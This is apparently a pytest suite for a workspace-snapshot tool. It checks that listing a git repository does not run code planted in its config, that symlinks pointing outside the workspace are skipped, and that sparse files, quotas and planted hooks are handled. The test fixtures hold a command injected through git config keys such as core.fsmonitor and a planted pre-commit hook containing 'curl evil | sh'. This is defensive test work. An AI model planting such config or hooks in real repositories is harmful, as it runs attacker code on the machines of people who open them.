"""The round snapshot against a hostile workspace: real git repositories, real files, real links."""

from __future__ import annotations

import os
import subprocess

import pytest

from crewctl.actors.snapshot import (
    SnapshotLimits,
    SnapshotRefused,
    check_protected,
    copy_tree,
    list_workspace,
    observe,
    snapshot_workspace,
)
from crewctl.goal import protect


def git(cwd, *args: str) -> str:
    done = subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
                          cwd=cwd, capture_output=True, text=True, check=True)
    return done.stdout


def repo(path, files: dict[str, str], *, commit: bool = True, init: tuple[str, ...] = ()) -> str:
    path.mkdir(parents=True, exist_ok=True)
    git(path, "init", "-q", *init)
    for rel, text in files.items():
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        (path / rel).write_text(text)
    if commit:
        git(path, "add", ".")
        git(path, "commit", "-qm", "init")
    return str(path)


def tree(root) -> dict[str, str]:
    out = {}
    for dirpath, _, names in os.walk(root):
        for n in names:
            p = os.path.join(dirpath, n)
            out[os.path.relpath(p, root)] = "-> " + os.readlink(p) if os.path.islink(p) else open(p).read()
    return out


def test_the_repositorys_config_never_runs_code_while_its_files_are_listed(tmp_path):
    ws = repo(tmp_path / "ws", {"a.py": "a", "tests/t.py": "t", ".gitignore": "*.log\n"})
    ran = tmp_path / "ran"
    evil = f"sh -c 'echo $0 >> {ran}'"
    for key, value in (
        ("core.fsmonitor", evil),
        ("core.hooksPath", str(tmp_path)),
        ("filter.x.process", evil),
        ("filter.x.clean", evil),
        ("core.pager", evil),
        ("core.alternateRefsCommand", evil),
        ("include.path", str(tmp_path / "more.config")),
    ):
        git(ws, "config", key, value)
    (tmp_path / "ws" / ".gitattributes").write_text("* filter=x\n")
    (tmp_path / "more.config").write_text(f"[core]\n\tfsmonitor = {evil}\n")
    (tmp_path / "ws" / "new.txt").write_text("untracked")
    (tmp_path / "ws" / "debug.log").write_text("ignored")
    (tmp_path / "ws" / ".git" / "info" / "exclude").write_text("secret.txt\n")
    (tmp_path / "ws" / "secret.txt").write_text("excluded")

    listing = list_workspace(ws)
    snap = snapshot_workspace(ws, str(tmp_path / "snap"))
    assert not ran.exists()
    assert listing.git and listing.files == [".gitattributes", ".gitignore", "a.py", "new.txt", "tests/t.py"]
    assert sorted(tree(tmp_path / "snap")) == listing.files and snap.files == 5
    # The same repository with a plain git: the attack is live (and breaks git itself).
    subprocess.run(["git", "status", "--porcelain"], cwd=ws, capture_output=True)
    assert ran.exists()


def test_the_operators_global_excludes_still_apply(tmp_path, monkeypatch):
    config = tmp_path / "xdg"
    (config / "git").mkdir(parents=True)
    (config / "git" / "ignore").write_text(".idea/\n")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    ws = repo(tmp_path / "ws", {"a.py": "a"})
    (tmp_path / "ws" / ".idea").mkdir()
    (tmp_path / "ws" / ".idea" / "ws.xml").write_text("x")
    assert list_workspace(ws).files == ["a.py"]


def test_a_tracked_path_through_a_directory_swapped_for_a_link_reads_nothing_outside(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("the operator's secret")
    ws = repo(tmp_path / "ws", {"data/secret.txt": "harmless", "a.py": "a"})
    subprocess.run(["rm", "-r", str(tmp_path / "ws" / "data")], check=True)
    os.symlink(str(outside), str(tmp_path / "ws" / "data"))  # the index still lists data/secret.txt
    snap = snapshot_workspace(ws, str(tmp_path / "snap"))
    assert "the operator's secret" not in tree(tmp_path / "snap").values()
    assert "data/secret.txt" in snap.skipped and "data" in snap.skipped  # the link: absolute


def test_symlinks_are_judged_where_they_resolve_once_all_of_them_exist(tmp_path):
    ws = tmp_path / "ws"
    (ws / "p" / "q").mkdir(parents=True)
    (ws / "real").mkdir()
    (ws / "real" / "f.txt").write_text("inside")
    os.symlink("../..", ws / "p" / "q" / "up")  # -> ws: fine on its own
    os.symlink("p/q/up/../ws/real", ws / "chain")  # textually ws/p/q/ws/real; really ../ws/real
    os.symlink("chain", ws / "via_chain")  # fine once chain is gone? it dangles, inside: kept
    os.symlink("real", ws / "alias")
    os.symlink("/etc", ws / "absolute")
    snap = snapshot_workspace(str(ws), str(tmp_path / "snap"))
    root = os.path.realpath(tmp_path / "snap")
    assert sorted(snap.skipped) == ["absolute", "chain"]
    for link in ("alias", "p/q/up", "via_chain"):
        assert os.path.realpath(os.path.join(root, link)).startswith(root)
    assert open(os.path.join(root, "alias", "f.txt")).read() == "inside"


def test_sparse_files_keep_their_holes_in_the_snapshot_and_in_each_copy(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    with open(ws / "big.bin", "wb") as f:
        f.truncate(1 << 30)
        f.seek(1 << 20)
        f.write(b"x" * 4096)
    snap = snapshot_workspace(str(ws), str(tmp_path / "snap"), limits=SnapshotLimits(max_bytes=1 << 20))
    copy_tree(str(tmp_path / "snap"), str(tmp_path / "copy"))
    for where in ("snap", "copy"):
        st = os.stat(tmp_path / where / "big.bin")
        assert st.st_size == 1 << 30 and st.st_blocks * 512 < 1 << 20
    with open(tmp_path / "copy" / "big.bin", "rb") as f:
        f.seek(1 << 20)
        assert f.read(4096) == b"x" * 4096
    assert snap.written < 1 << 20 and snap.apparent == 1 << 30


def test_a_workspace_over_the_quota_is_refused_naming_its_largest_files(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "small.txt").write_text("s")
    (ws / "blob.bin").write_bytes(os.urandom(300_000))
    with pytest.raises(SnapshotRefused, match=r"quota.*blob\.bin \(293\.0 KiB\)"):
        snapshot_workspace(str(ws), str(tmp_path / "snap"), limits=SnapshotLimits(max_bytes=256 * 1024))
    for i in range(5):
        (ws / f"f{i}").write_text("x")
    with pytest.raises(SnapshotRefused, match="more than 3 files"):
        snapshot_workspace(str(ws), str(tmp_path / "snap"), limits=SnapshotLimits(max_files=3))


def test_a_linked_worktree_and_a_subdirectory_are_listed_from_their_own_index(tmp_path):
    main = repo(tmp_path / "main", {"a.py": "a", "sub/b.py": "b"})
    git(main, "worktree", "add", "-q", str(tmp_path / "wt"))
    (tmp_path / "wt" / "c.py").write_text("c")
    assert list_workspace(str(tmp_path / "wt")).files == ["a.py", "c.py", "sub/b.py"]
    assert list_workspace(str(tmp_path / "wt" / "sub")).files == ["b.py"]
    assert ".git/hooks/pre-commit.sample" in list_workspace(str(tmp_path / "wt")).hooks


def test_a_sha256_repository_is_listed_too(tmp_path):
    ws = repo(tmp_path / "ws", {"a.py": "a"}, init=("--object-format=sha256",))
    assert list_workspace(ws).files == ["a.py"]


def test_a_directory_that_is_no_repository_is_copied_whole_without_its_git_dirs(tmp_path):
    ws = tmp_path / "ws"
    (ws / "x" / ".git").mkdir(parents=True)
    (ws / "x" / ".git" / "config").write_text("[core]")
    (ws / "x" / "y.py").write_text("y")
    os.mkfifo(ws / "pipe")  # never opened: a fifo would block a reader forever
    listing = list_workspace(str(ws))
    assert not listing.git and listing.hooks == {}
    snap = snapshot_workspace(str(ws), str(tmp_path / "snap"))
    assert tree(tmp_path / "snap") == {"x/y.py": "y"} and snap.paths == ("x/y.py",)


def test_the_baseline_and_the_round_see_the_same_files_and_catch_a_planted_hook(tmp_path):
    ws = repo(tmp_path / "ws", {"tests/test_a.py": "a", "src/m.py": "m"})
    os.symlink("/etc/hostname", tmp_path / "ws" / "tests" / "test_link.py")  # out of the workspace: not pinnable
    sc = protect.scope(protect.settings(), ("python -m pytest",))
    observed = observe(ws, sc)
    assert "tests/test_a.py" in observed and "tests/test_link.py" not in observed and "src/m.py" not in observed
    entries, _ = protect.build_baseline(sc, observed, (), protect.FULL)
    plan = protect.RoundPlan(entries=entries, forbidden=sc.forbidden)
    snap = snapshot_workspace(ws, str(tmp_path / "snap"))
    assert check_protected(snap, plan, ws) == ()
    (tmp_path / "ws" / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    snap = snapshot_workspace(ws, str(tmp_path / "snap"))
    assert check_protected(snap, plan, ws) == (protect.Finding(".git/hooks/pre-commit", "added", "forbidden"),)
